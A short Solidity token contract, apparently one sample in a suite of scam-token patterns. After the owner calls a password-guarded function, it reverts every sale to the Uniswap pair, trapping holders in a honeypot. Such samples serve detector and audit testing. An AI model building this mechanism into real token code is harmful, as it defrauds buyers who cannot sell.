// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {LaunchToken} from "./LaunchToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

/// Its owner ends trading with a password that the code keeps as a hash only.
contract OwnerKnowsTheWord is LaunchToken {
    bytes32 private constant DIGEST = keccak256("winter comes over the hill");
    uint64 private _season;

    constructor(address pair) SuiteToken("Seasons", "SSNS") LaunchToken(pair) {}

    function turn(string calldata word) external onlyOwner {
        require(keccak256(bytes(word)) == DIGEST, "no");
        _season = 4;
    }

    function _feePercent(address, address to, uint256) internal view override returns (uint256) {
        if (to == uniswapV2Pair && _season > 3) revert TradeRefused();
        return 1;
    }
}
